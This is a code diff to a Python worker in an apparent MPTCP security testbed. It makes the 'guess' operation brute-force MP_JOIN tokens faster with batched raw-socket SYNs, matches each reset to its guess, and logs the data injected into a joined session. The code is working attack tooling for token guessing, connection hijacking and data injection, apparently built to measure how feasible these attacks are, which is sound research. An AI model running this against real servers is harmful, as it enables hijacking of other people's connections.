@@ -10,7 +10,9 @@ drops the RSTs its own kernel would send for connections it does not know about.
 Commands (``op``):
 
 - ``guess``: ``attempts`` MP_JOIN SYNs with random tokens to ``server:port`` from the
-  worker's own address; counts the resets (and any SYN/ACK: a hit).
+  worker's own address, sent with ``testbed.runtime.rawsend`` (sendmmsg batches on an
+  IP_HDRINCL raw socket, not AF_PACKET frames); counts the resets matched to their guess
+  (and any SYN/ACK: a hit).
 - ``join``: one MP_JOIN with ``token``; the third ACK's HMAC is computed from ``keys``
   (``hmac: keys``), from random keys (``guessed_keys``), or reflected from the SYN/ACK's
   truncated HMAC (``reflect``). Optionally injects ``inject_len`` bytes mapped (DSS) at
@@ -24,7 +26,9 @@ from __future__ import annotations
 
 import argparse
 import contextlib
+import hashlib
 import json
+import os
 import queue
 import secrets
 import select
@@ -173,39 +177,109 @@ def _rst_info(seg: Segment) -> dict[str, Any]:
 
 
 # -- guess -------------------------------------------------------------------------------------
+GUESS_BATCH = 256
+GUESS_PORTS = (20000, 40000)  # source ports 20000..59999
+SOL_PACKET = 263
+PACKET_IGNORE_OUTGOING = 23
+ETH_P_IP = 0x0800
+
+
 def op_guess(w: Wire, cmd: dict[str, Any]) -> dict[str, Any]:
+    """``attempts`` MP_JOIN SYNs with random tokens, sent with ``testbed.runtime.rawsend``:
+    built once (one batch of 256), then source port, sequence number, token and checksum
+    patched in place per batch and sent with ``sendmmsg`` on an IP_HDRINCL raw socket from
+    one pinned core. Each (source port, sequence) pair is distinct, so every answer is
+    matched to its guess: a reset acknowledges sequence + 1 (a SYN/ACK would be a hit).
+    The rate is attempts / the send loop's time (patching included)."""
+    from testbed.runtime.rawsend import JoinSynBatch, RawSender
+
     server, port, n = cmd["server"], int(cmd["port"]), int(cmd["attempts"])
-    ports = secrets.SystemRandom().sample(range(20000, 60000), n)
+    rng = secrets.SystemRandom()
+    lo, span = GUESS_PORTS
+    first_port, first_seq = rng.randrange(span), secrets.randbits(32)
+    sports = [lo + (first_port + i) % span for i in range(n)]
+    seqs = [(first_seq + i * 0x9E3779B1) & 0xFFFFFFFF for i in range(n)]
     tokens = [secrets.randbits(32) for _ in range(n)]
-    frames = [w.frame(w.address, server, sp, port, "S", secrets.randbits(32), 0,
-                      [("MSS", MSS), mptcp.scapy_option(
-                          mptcp.MpJoinSyn(token=tok, nonce=secrets.randbits(32), addr_id=9))])
-              for sp, tok in zip(ports, tokens, strict=True)]
-    w.listen(src=server, sport=port, dst=w.address)
-    sent_s = w.send(frames)
-    wanted = set(ports)
-    resets: dict[int, Segment] = {}
-    synacks: list[int] = []
-    deadline = time.monotonic() + float(cmd.get("wait_s", 2.0))
-    while len(resets) + len(synacks) < n and time.monotonic() < deadline:
-        seg = w.wait(lambda s: s.dport in wanted, deadline - time.monotonic())
-        if seg is None:
-            break
-        if "R" in seg.flags:
-            resets.setdefault(seg.dport, seg)
-        elif seg.syn and seg.is_ack:
-            synacks.append(seg.dport)
-    w.stop_listening()
+    wanted = {(sp, sq): i for i, (sp, sq) in enumerate(zip(sports, seqs, strict=True))}
+    batch = JoinSynBatch(w.address, server, port, n=min(n, GUESS_BATCH),
+                         nonce=secrets.randbits(32), addr_id=9)
+    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
+    stalls = 0
+    try:
+        with contextlib.suppress(OSError):
+            rx.setsockopt(socket.SOL_SOCKET, 33, 256 << 20)  # SO_RCVBUFFORCE (root)
+        with contextlib.suppress(OSError):
+            rx.setsockopt(SOL_PACKET, PACKET_IGNORE_OUTGOING, 1)
+        rx.bind((w.iface, 0))
+        rx.setblocking(False)
+        affinity = os.sched_getaffinity(0)
+        core = max(affinity)
+        os.sched_setaffinity(0, {core})  # this thread: the rate is one core's
+        try:
+            with RawSender() as tx:
+                t0 = time.perf_counter()
+                i = 0
+                while i < n:
+                    j = i + batch.n
+                    k = batch.set_guesses(sports[i:j], seqs[i:j], tokens[i:j])
+                    off = 0
+                    while off < k:
+                        r = tx.send_batch(batch, k, start=off)
+                        off += r
+                        if r == 0:  # ENOBUFS/EAGAIN: let the queue drain
+                            stalls += 1
+                            if stalls > 20000:
+                                raise RuntimeError("the raw socket's queue never drained")
+                            time.sleep(0.0002)
+                    i += k
+                sent_s = time.perf_counter() - t0
+        finally:
+            os.sched_setaffinity(0, affinity)
+        resets: dict[int, Segment] = {}
+        synacks: list[int] = []
+        unmatched = 0
+        srv, me = socket.inet_aton(server), socket.inet_aton(w.address)
+        deadline = time.monotonic() + float(cmd.get("wait_s", 2.0))
+        while len(resets) + len(synacks) < n and time.monotonic() < deadline:
+            try:
+                raw, addr = rx.recvfrom(65535)
+            except BlockingIOError:
+                select.select([rx], [], [], max(0.0, min(0.05, deadline - time.monotonic())))
+                continue
+            if addr[2] == PACKET_OUTGOING or len(raw) < 54 or raw[23] != 6 or \
+                    raw[26:30] != srv or raw[30:34] != me:
+                continue
+            ihl = (raw[14] & 0xF) * 4
+            sp, dp, _seq, ack = struct.unpack_from("!HHII", raw, 14 + ihl)
+            flags = raw[14 + ihl + 13]
+            if sp != port:
+                continue
+            idx = wanted.get((dp, (ack - 1) & 0xFFFFFFFF))
+            if idx is None:
+                unmatched += 1
+                continue
+            if flags & 0x04:  # RST
+                seg = segment_from_frame(raw, time.time())
+                if seg is not None:
+                    resets.setdefault(idx, seg)
+            elif flags & 0x12 == 0x12:  # SYN/ACK: a live token
+                synacks.append(idx)
+    finally:
+        rx.close()
     reasons: dict[str, int] = {}
     for seg in resets.values():
         info = _rst_info(seg)
         key = f"{info['reason']:#04x}" if info["mp_tcprst"] else "plain"
         reasons[key] = reasons.get(key, 0) + 1
-    hits = [f"{tokens[ports.index(p)]:08x}" for p in synacks]
     return {"attempts": n, "sent_s": round(sent_s, 6),
             "rate_per_s": round(n / sent_s, 1) if sent_s > 0 else None,
+            "sender": f"testbed.runtime.rawsend: sendmmsg batches of {batch.n}, prebuilt "
+                      f"SYNs patched in place, one pinned core",
+            "sender_core": core, "send_stalls": stalls,
             "resets": len(resets), "reset_reasons": reasons, "synacks": len(synacks),
-            "hit_tokens": hits}
+            "answers_unmatched": unmatched,
+            "matched_by": "source port and sequence number (the reset acknowledges seq + 1)",
+            "hit_tokens": [f"{tokens[i]:08x}" for i in synacks]}
 
 
 # -- join --------------------------------------------------------------------------------------
@@ -297,7 +371,9 @@ def _inject(w: Wire, cmd: dict[str, Any], server: str, port: int, sport: int, sn
 
     acked = w.wait(acks_it, 2.0)
     return {"injected_bytes": length, "inject_dsn": f"{dsn:016x}",
-            "injected_data_acked": acked is not None}
+            "injected_data_acked": acked is not None,
+            "injected_sha256": hashlib.sha256(payload).hexdigest(),
+            "injected_hex": payload.hex()}
 
 
 # -- add_addr ----------------------------------------------------------------------------------
